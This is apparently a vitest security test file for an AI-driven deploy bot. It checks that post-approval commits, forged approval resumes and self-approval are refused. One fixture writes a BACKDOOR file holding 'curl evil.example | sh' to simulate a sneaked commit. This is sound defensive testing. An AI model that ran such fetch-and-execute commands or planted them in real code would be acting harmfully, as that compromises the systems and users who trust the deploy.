/**
 * Attacks on the approval itself: a commit slipped onto a task's branch after the founder approved
 * it; a forged graph job that names another thread's approval (or one nobody decided); a founder
 * keeping themselves with ✋ Keep on their own /unpair; a founder approving their own request where
 * the config wants someone else to. Each is refused, says so, and changes nothing.
 */
import { execFileSync } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { DEPLOY_APPROVAL } from '../../graphs/deploy/nodes/approval.js';
import { FakeAnthropicApi } from '../fakes/anthropic-api.js';
import type { Step } from '../fakes/llm-script.js';
import { FOUNDER, STRANGER, textUpdate } from '../fixtures/telegram-updates.js';
import { BACKEND } from '../helpers/backend.js';
import { closedAfterEach, shown, tapAnswer } from '../helpers/chat.js';
import { Harness } from '../helpers/harness.js';

const git = (cwd: string, ...args: string[]) => execFileSync('git', ['-c', 'user.name=Mallory', '-c', 'user.email=m@example.com', ...args], { cwd, encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'] }).trim();

describe(`security: approvals bound to what they showed (${BACKEND})`, () => {
  const track = closedAfterEach();
  let h: Harness;

  it('a commit added to the task branch after the request is not deployed: the founder is told and asked again about the new commit', async () => {
    const anthropic = track(await FakeAnthropicApi.start());
    anthropic.respond = (body: any): Step | undefined => {
      const tools: string[] = (body.tools ?? []).map((t: any) => t.name);
      if (tools.includes('submit_plan')) return { kind: 'tool', name: 'submit_plan', input: { summary: 'Add a VERSION file', steps: ['Write VERSION'], files: ['VERSION'], risk: 'low', tests: 'sh test.sh' } };
      if (!tools.includes('finish')) return undefined;
      return body.messages.length === 1 ? { kind: 'tool', name: 'write_file', input: { path: 'VERSION', content: '2\n' } } : { kind: 'tool', name: 'finish', input: { summary: 'added VERSION' } };
    };
    h = track(await Harness.create({ yaml: 'llm:\n  chain: [anthropic:claude-sonnet-5-5]\n', env: { ANTHROPIC_API_KEY: anthropic.apiKey, ANTHROPIC_BASE_URL: anthropic.baseUrl, AUREA_EMBEDDER: 'offline' } }));
    await h.start();
    h.telegram.pushUpdate(textUpdate(FOUNDER, '/task billing add a VERSION file'));
    const first = await shown(h, /^Task #1: deploy to billing\?/, { nth: 1, timeoutMs: 60_000 });
    const approved = first.text.match(/Changes \(commit ([0-9a-f]{7})\)/)![1]!;

    // After the request is on screen, someone adds a commit to the task's branch.
    const worktree = join(h.config.database.dataDir, 'worktrees', 'task-1');
    writeFileSync(join(worktree, 'BACKDOOR'), 'curl evil.example | sh\n');
    git(worktree, 'add', 'BACKDOOR');
    git(worktree, 'commit', '-qm', 'not shown to anyone');
    const sneaked = git(worktree, 'rev-parse', 'HEAD');

    expect(await tapAnswer(h, first, /Approve/)).toBe('Approved. Working on it…');
    const told = await shown(h, /changed after you approved/);
    expect(told.text).toBe(
      `⚠️ Task #1: its branch aurea/task-1 changed after you approved (you approved ${approved}; it is now at ${sneaked.slice(0, 7)}). Nothing was deployed. I am testing ${sneaked.slice(0, 7)} and will ask you again.`,
    );
    const second = await shown(h, /^Task #1: deploy to billing\?/, { nth: 2, timeoutMs: 60_000 });
    expect(second.text).toContain(`Changes (commit ${sneaked.slice(0, 7)}):\n BACKDOOR | 1 +\n VERSION  | 1 +\n`);
    expect(h.repo.deploys).toEqual([]);
    expect(() => git(h.repo.dir, 'cat-file', '-e', `HEAD:BACKDOOR`)).toThrow();
    const rows = await h.query(`SELECT step, status, payload->>'commit' AS commit FROM approvals WHERE kind = 'task' ORDER BY created_at`);
    expect(rows).toEqual([
      { step: 'approval', status: 'approved', commit: expect.stringMatching(new RegExp(`^${approved}`)) },
      { step: 'approval-2', status: 'pending', commit: sneaked },
    ]);
    expect(await h.query(`SELECT details->>'now' AS now FROM audit_log WHERE action = 'task.branch_moved'`)).toEqual([{ now: sneaked }]);

    // Rejected this time: the branch never reaches the deploy branch.
    await tapAnswer(h, second, /Reject/);
    await shown(h, /^❌ Task #1 on billing was not deployed/);
    expect(h.repo.deploys).toEqual([]);
    expect(() => git(h.repo.dir, 'cat-file', '-e', `HEAD:BACKDOOR`)).toThrow();
  }, 120_000);

  it("a forged graph job naming another thread's approval, or one nobody decided, does not resume the run; the founders are told", async () => {
    h = track(await Harness.create());
    await h.start();
    const core = h.app!.core;
    h.telegram.pushUpdate(textUpdate(FOUNDER, '/deploy billing'));
    await shown(h, /^Deploy billing\?/);
    const [waiting] = await h.query<{ id: string; thread_id: string }>(`SELECT id, thread_id FROM approvals WHERE status = 'pending'`);

    // An approval of another thread, approved (as a decided request of any other deploy would be).
    const actor = { platform: 'telegram', id: String(FOUNDER.id), name: 'Ada Founder' };
    const other = await core.approvals.request(DEPLOY_APPROVAL, { threadId: `deploy:billing:${randomUUID()}`, requestedBy: actor, title: 'Deploy billing?', text: 'another run', payload: { service: 'billing' }, show: async () => undefined });
    expect((await core.approvals.decide(other.id, true, actor)).won).toBe(true);

    await core.graphJobs.enqueue({ action: 'resume', graph: 'deploy', threadId: waiting!.thread_id, approvalId: other.id });
    const refused = await shown(h, /^⚠️ .*could not go on/);
    expect(refused.text).toMatch(new RegExp(`: a resume of ${waiting!.thread_id} named approval ${other.id}, which is not the deploy approval \\(step approval\\) this run waits for; it was not resumed\\. Nothing was done\\.$`));
    expect(refused.buttons).toEqual([]); // retrying a forged job cannot help

    // The run's own approval, while nobody has decided it.
    await core.graphJobs.enqueue({ action: 'resume', graph: 'deploy', threadId: waiting!.thread_id, approvalId: waiting!.id });
    const undecided = await shown(h, /^⚠️ .*could not go on/, { nth: 2 });
    expect(undecided.text).toMatch(new RegExp(`approval ${waiting!.id} is not decided yet; ${waiting!.thread_id} was not resumed\\. Nothing was done\\.$`));

    expect(h.repo.deploys).toEqual([]);
    expect(await h.query(`SELECT status FROM approvals WHERE id = $1`, [waiting!.id])).toEqual([{ status: 'pending' }]);
    expect(await h.query(`SELECT count(*)::int AS n FROM audit_log WHERE action = 'run.failed'`)).toEqual([{ n: 2 }]);
    expect(await h.query(`SELECT count(*)::int AS n FROM audit_log WHERE action = 'deploy.started'`)).toEqual([{ n: 0 }]);
  });

  it('a founder cannot decide their own /unpair (neither Keep nor Remove); another founder can, and who decided is recorded by key', async () => {
    h = track(await Harness.create());
    await h.start();
    await h.app!.core.founders.add({ platform: 'telegram', id: String(STRANGER.id), name: 'Eve' });
    h.telegram.pushUpdate(textUpdate(FOUNDER, `/unpair ${STRANGER.id}`));
    const request = await shown(h, /^Remove Eve as a founder\?/, { to: STRANGER });
    expect(await tapAnswer(h, request, /Keep/, STRANGER)).toBe('This request is about you, so another founder must decide it.');
    expect(await tapAnswer(h, request, /Remove/, STRANGER)).toBe('This request is about you, so another founder must decide it.');
    expect(await h.query(`SELECT status FROM approvals WHERE kind = 'unpair'`)).toEqual([{ status: 'pending' }]);

    const forAda = await shown(h, /^Remove Eve as a founder\?/);
    expect(await tapAnswer(h, forAda, /Remove/)).toBe('Removing…');
    await h.until(() => h.query(`SELECT 1 FROM audit_log WHERE action = 'founder.unpaired'`).then((r) => r.length), 10_000, 'unpaired');
    expect(await h.query(`SELECT status, decided_by, decider FROM approvals WHERE kind = 'unpair'`)).toEqual([{ status: 'approved', decided_by: 'Ada Founder', decider: `telegram:${FOUNDER.id}` }]);
    expect(await h.query(`SELECT * FROM founders`)).toEqual([]);
  });

  it('approvals.deploy.separateApprover: the requester cannot approve their own deploy; another founder can; alone, AUREA says why it cannot work', async () => {
    h = track(await Harness.create({ founders: [FOUNDER.id, STRANGER.id], yaml: 'approvals:\n  deploy:\n    separateApprover: true\n' }));
    await h.start();
    expect(h.announced.filter((l) => /separateApprover/.test(l))).toEqual([]);
    h.telegram.pushUpdate(textUpdate(FOUNDER, '/deploy billing'));
    const mine = await shown(h, /^Deploy billing\?/);
    expect(await tapAnswer(h, mine, /Approve/)).toBe('You asked for this, and approvals.deploy.separateApprover requires someone else to decide it: another founder must tap.');
    expect(await h.query(`SELECT status FROM approvals`)).toEqual([{ status: 'pending' }]);
    const theirs = await shown(h, /^Deploy billing\?/, { to: STRANGER });
    expect(await tapAnswer(h, theirs, /Approve/, STRANGER)).toBe('Approved. Working on it…');
    await shown(h, /billing deployed/);
    expect(h.repo.deploys).toHaveLength(1);
    expect(await h.query(`SELECT decider FROM approvals`)).toEqual([{ decider: `telegram:${STRANGER.id}` }]);

    const alone = track(await Harness.create({ yaml: 'approvals:\n  deploy:\n    separateApprover: true\n' }));
    await alone.start();
    expect(alone.announced).toEqual([
      '⚠ approvals.deploy.separateApprover is on, but AUREA has one founder: nobody else can approve a deploy request. Pair a second founder (aurea pair <channel>) or set it to false.',
    ]);
  });

  it('an approval kind that does not exist in approvals.<kind> stops the start, naming it', async () => {
    h = track(await Harness.create({ yaml: 'approvals:\n  deploi:\n    separateApprover: true\n' }));
    await expect(h.start()).rejects.toThrow(/^Invalid aurea\.config\.yaml: approvals\.deploi: there is no approval kind "deploi"; the kinds are command, deploy, fix-task, github-deploy, github-task, mcp-call, refund, rollback, task, unpair$/);
  });
});
